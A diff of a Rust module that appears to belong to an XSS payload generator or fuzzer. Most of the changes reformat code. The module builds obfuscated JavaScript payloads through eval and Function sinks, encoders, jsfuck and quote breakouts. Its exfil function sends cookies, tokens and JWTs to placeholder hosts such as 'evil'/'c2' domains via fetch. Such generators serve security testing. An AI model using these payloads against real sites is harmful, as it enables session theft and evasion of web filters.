@@ -12,20 +12,15 @@
 use crate::mutate::{join, js_escapes, random_case, transport_layer};
 use crate::{Carrier, Family, Rng, Variant};
 
+/// Whitespace and empty comments JavaScript allows between tokens.
+const TOKEN_GAPS: &[&str] = &[" ", "\t", "/**/", "\n", "  ", "/*x*/"];
+
 pub struct XssJsExpression;
 
 pub static XSS_JS_EXPRESSION: XssJsExpression = XssJsExpression;
 
 const PROBES: &[&str] = &["alert", "prompt", "confirm"];
-const GLOBALS: &[&str] = &[
-    "window",
-    "self",
-    "top",
-    "parent",
-    "frames",
-    "globalThis",
-    "this",
-];
+const GLOBALS: &[&str] = &["window", "self", "top", "parent", "frames", "globalThis", "this"];
 const ARGS: &[&str] = &[
     "1",
     "document.domain",
@@ -50,11 +45,7 @@ impl Family for XssJsExpression {
 
     fn generate(&self, rng: &mut Rng) -> Variant {
         let mut names: Vec<&'static str> = Vec::new();
-        let (expr, form) = if rng.chance(0.08) {
-            (jsfuck_program(rng), "jsfuck")
-        } else {
-            expression(rng, &mut names)
-        };
+        let (expr, form) = if rng.chance(0.08) { (jsfuck_program(rng), "jsfuck") } else { expression(rng, &mut names) };
         let mut muts = vec![form];
         muts.extend(names);
         let expr = if rng.chance(0.2) && form != "jsfuck" {
@@ -67,12 +58,7 @@ impl Family for XssJsExpression {
         muts.push(wrapper);
         let (payload, layer) = transport_layer(rng, &wrapped);
         muts.push(layer);
-        Variant {
-            family: self.name(),
-            mutation: join(&muts),
-            payload,
-            carrier: Carrier::Value,
-        }
+        Variant { family: self.name(), mutation: join(&muts), payload, carrier: Carrier::Value }
     }
 }
 
@@ -98,10 +84,7 @@ pub fn expression(rng: &mut Rng, names: &mut Vec<&'static str>) -> (String, &'st
             } else {
                 let (name, how) = string_of(rng, probe);
                 names.push(how);
-                (
-                    format!("{}[{name}]`{n}`", rng.pick(GLOBALS)),
-                    "template-literal",
-                )
+                (format!("{}[{name}]`{n}`", rng.pick(GLOBALS)), "template-literal")
             }
         }
         4 => {
@@ -121,14 +104,7 @@ pub fn expression(rng: &mut Rng, names: &mut Vec<&'static str>) -> (String, &'st
         5 => {
             let (code, how) = string_of(rng, &call);
             names.push(how);
-            let sink = *rng.pick(&[
-                "eval",
-                "setTimeout",
-                "setInterval",
-                "window.eval",
-                "top.eval",
-                "self.setTimeout",
-            ]);
+            let sink = *rng.pick(&["eval", "setTimeout", "setInterval", "window.eval", "top.eval", "self.setTimeout"]);
             (format!("{sink}({code})"), "string-sink")
         }
         6 => {
@@ -137,25 +113,10 @@ pub fn expression(rng: &mut Rng, names: &mut Vec<&'static str>) -> (String, &'st
             let code = match how {
                 "atob" => format!("atob('{}')", base64(&call)),
                 "fromCharCode" => from_char_code(&call),
-                _ => format!(
-                    "unescape('{}')",
-                    call.bytes()
-                        .map(|b| format!("%{b:02x}"))
-                        .collect::<String>()
-                ),
+                _ => format!("unescape('{}')", call.bytes().map(|b| format!("%{b:02x}")).collect::<String>()),
             };
-            let sink = *rng.pick(&[
-                "eval",
-                "setTimeout",
-                "Function",
-                "[].constructor.constructor",
-                "self['eval']",
-            ]);
-            let tail = if sink.contains("onstructor") || sink == "Function" {
-                "()"
-            } else {
-                ""
-            };
+            let sink = *rng.pick(&["eval", "setTimeout", "Function", "[].constructor.constructor", "self['eval']"]);
+            let tail = if sink.contains("onstructor") || sink == "Function" { "()" } else { "" };
             (format!("{sink}({code}){tail}"), "decoder")
         }
         7 => {
@@ -174,11 +135,7 @@ pub fn expression(rng: &mut Rng, names: &mut Vec<&'static str>) -> (String, &'st
         _ => {
             // An identifier spelled with escapes: `\u0061lert(1)`.
             let name = js_escapes(rng, probe, 0.5);
-            let name = if name == probe {
-                format!("\\u{:04x}{}", probe.as_bytes()[0], &probe[1..])
-            } else {
-                name
-            };
+            let name = if name == probe { format!("\\u{:04x}{}", probe.as_bytes()[0], &probe[1..]) } else { name };
             let name = name.replace("\\x", "\\u00");
             (format!("{name}({arg})"), "escaped-ident")
         }
@@ -187,8 +144,14 @@ pub fn expression(rng: &mut Rng, names: &mut Vec<&'static str>) -> (String, &'st
 
 /// Code that sends the page's secrets to another origin or navigates there.
 fn exfil(rng: &mut Rng) -> String {
-    let host = format!("{}{}.{}", rng.pick(&["evil", "x", "atk", "c2", "log"]), rng.range(0, 999), rng.pick(&["com", "io", "rs", "net"]));
-    let secret = *rng.pick(&["document.cookie", "localStorage.token", "document.cookie", "sessionStorage.getItem('jwt')"]);
+    let host = format!(
+        "{}{}.{}",
+        rng.pick(&["evil", "x", "atk", "c2", "log"]),
+        rng.range(0, 999),
+        rng.pick(&["com", "io", "rs", "net"])
+    );
+    let secret =
+        *rng.pick(&["document.cookie", "localStorage.token", "document.cookie", "sessionStorage.getItem('jwt')"]);
     match rng.below(7) {
         0 => format!("fetch('//{host}/?c='+{secret})"),
         1 => format!("fetch(`https://{host}/${{{secret}}}`)"),
@@ -216,39 +179,20 @@ pub fn string_of(rng: &mut Rng, text: &str) -> (String, &'static str) {
         0 => (format!("{q}{}{q}", escape_quote(text, q)), "quoted"),
         1 => {
             let parts = split(rng, text);
-            (
-                parts
-                    .iter()
-                    .map(|p| format!("{q}{}{q}", escape_quote(p, q)))
-                    .collect::<Vec<_>>()
-                    .join("+"),
-                "concat",
-            )
+            (parts.iter().map(|p| format!("{q}{}{q}", escape_quote(p, q))).collect::<Vec<_>>().join("+"), "concat")
         }
-        2 => (
-            format!("{q}{}{q}", js_escapes(rng, &escape_quote(text, q), 0.6)),
-            "js-escapes",
-        ),
-        3 => (
-            format!("{q}{}{q}", octal(rng, &escape_quote(text, q))),
-            "octal",
-        ),
+        2 => (format!("{q}{}{q}", js_escapes(rng, &escape_quote(text, q), 0.6)), "js-escapes"),
+        3 => (format!("{q}{}{q}", octal(rng, &escape_quote(text, q))), "octal"),
         4 => (from_char_code(text), "fromCharCode"),
         5 => (format!("atob({q}{}{q})", base64(text)), "atob"),
         6 => {
             let parts = split(rng, text);
-            let items: Vec<String> = parts
-                .iter()
-                .map(|p| format!("'{}'", escape_quote(p, "'")))
-                .collect();
+            let items: Vec<String> = parts.iter().map(|p| format!("'{}'", escape_quote(p, "'"))).collect();
             (format!("[{}].join('')", items.join(",")), "join")
         }
         7 => {
             let rev: String = text.chars().rev().collect();
-            (
-                format!("'{}'.split('').reverse().join('')", escape_quote(&rev, "'")),
-                "reverse",
-            )
+            (format!("'{}'.split('').reverse().join('')", escape_quote(&rev, "'")), "reverse")
         }
         8 => {
             let n = u64::from_str_radix(text, 36).unwrap_or(0);
@@ -277,13 +221,7 @@ fn split(rng: &mut Rng, text: &str) -> Vec<String> {
 
 fn octal(rng: &mut Rng, text: &str) -> String {
     text.chars()
-        .map(|c| {
-            if c.is_ascii_alphabetic() && rng.chance(0.6) {
-                format!("\\{:o}", c as u32)
-            } else {
-                c.to_string()
-            }
-        })
+        .map(|c| if c.is_ascii_alphabetic() && rng.chance(0.6) { format!("\\{:o}", c as u32) } else { c.to_string() })
         .collect()
 }
 
@@ -297,9 +235,8 @@ pub fn base64(text: &str) -> String {
     let b = text.as_bytes();
     let mut out = String::new();
     for chunk in b.chunks(3) {
-        let n = (chunk[0] as u32) << 16
-            | (*chunk.get(1).unwrap_or(&0) as u32) << 8
-            | *chunk.get(2).unwrap_or(&0) as u32;
+        let n =
+            (chunk[0] as u32) << 16 | (*chunk.get(1).unwrap_or(&0) as u32) << 8 | *chunk.get(2).unwrap_or(&0) as u32;
         for k in 0..4 {
             if k <= chunk.len() {
                 out.push(A[(n >> (18 - 6 * k) & 63) as usize] as char);
@@ -322,7 +259,7 @@ fn spaced(rng: &mut Rng, expr: &str) -> String {
             Some(_) => {}
             None if matches!(c, '\'' | '"' | '`') => in_str = Some(c),
             None if matches!(c, '(' | '[' | '+' | ',') && rng.chance(0.5) => {
-                out.push_str(*rng.pick(&[" ", "\t", "/**/", "\n", "  ", "/*x*/"]));
+                out.push_str(TOKEN_GAPS[rng.below(TOKEN_GAPS.len())]);
             }
             None => {}
         }
@@ -335,11 +272,7 @@ pub fn wrap(rng: &mut Rng, expr: &str) -> (String, &'static str) {
     match rng.below(10) {
         0..=2 => (expr.to_string(), ""),
         3 | 4 => {
-            let scheme = if rng.chance(0.5) {
-                random_case(rng, "javascript")
-            } else {
-                "javascript".to_string()
-            };
+            let scheme = if rng.chance(0.5) { random_case(rng, "javascript") } else { "javascript".to_string() };
             (format!("{scheme}:{expr}"), "javascript-url")
         }
         5 => (format!("';{expr}//"), "breakout-single"),
@@ -386,11 +319,8 @@ fn jsfuck_index(n: usize) -> String {
     if n < 10 {
         return jsfuck_number(n);
     }
-    let digits: Vec<String> = n
-        .to_string()
-        .bytes()
-        .map(|d| format!("({}+[])", jsfuck_number((d - b'0') as usize)))
-        .collect();
+    let digits: Vec<String> =
+        n.to_string().bytes().map(|d| format!("({}+[])", jsfuck_number((d - b'0') as usize))).collect();
     format!("+({})", digits.join("+"))
 }
 
